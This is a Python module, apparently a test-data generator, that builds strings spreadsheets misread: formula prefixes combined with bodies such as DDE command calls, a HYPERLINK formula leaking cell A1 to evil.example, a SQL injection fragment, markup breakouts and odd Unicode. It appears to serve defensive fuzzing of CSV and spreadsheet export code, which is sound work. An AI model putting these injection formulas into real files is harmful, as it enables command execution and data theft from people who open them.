"""Texts that spreadsheets and their files take for something else: formulas, markup, numbers, days, ends of lines."""

from __future__ import annotations

from itertools import product
from random import Random

_STARTS = (
    "",
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    "\r\n",
    " ",
    "'",
    "''",
    "'=",
    " =",
    "＝",
    "＋",
    "－",
    "＠",
    "\ufeff",
    "\x00=",
)
_BODIES = (
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example/?x="&A1,"click")',
    "WEBSERVICE(CONCATENATE(A1,B1))",
    'DDE("cmd";"/C calc";"x")',
    "1+1",
    "SUM(A1:A9)*2",
    "2027-03-31",
    "3/12/26",
    "1E5",
    "00123",
    "TRUE",
    "#REF!",
    "http://example.com/a?b=c&d=<e>",
    "<r><t>marked up</t></r>",
    "<r>_x0041_\r</r>",
    "]]><f>1+1</f><![CDATA[",
    "&lt;b&gt; &amp; <b> \"quoted\" 'single'",
    "_x0041__x000D_",
    'a","b"\r\n"c;d\te',
    "first line\nsecond\rthird\r\nfourth",
    "\u202eright to left\u202c \u200b \u00a0 \u2028 \u2029",
    "😀 é e\u0301 漢字 \U0010ffff \ufffe \ud800",
    "\x01\x02\x0b\x1f\x7f\x85",
    "{=A1}",
    "|calc",
    "mailto:a@b.example",
    "' OR 1=1 --",
)
_ALPHABET = "=+-@\t\r\n'\";,<>&_x00410D ａ\u0000\u001f\U0001f600 0123456789.:/[]()|!#%$"


def hostile_texts(count: int = 1_000) -> list[str]:
    """So many such texts, the same each time: every start with every body, one too long for a cell, then chance."""
    texts = [*(start + body for start, body in product(_STARTS, _BODIES)), "=" + "x" * 40_000]
    chance = Random(4711)
    while len(texts) < count:
        texts.append("".join(chance.choices(_ALPHABET, k=chance.randint(1, 60))))
    return texts[:count]
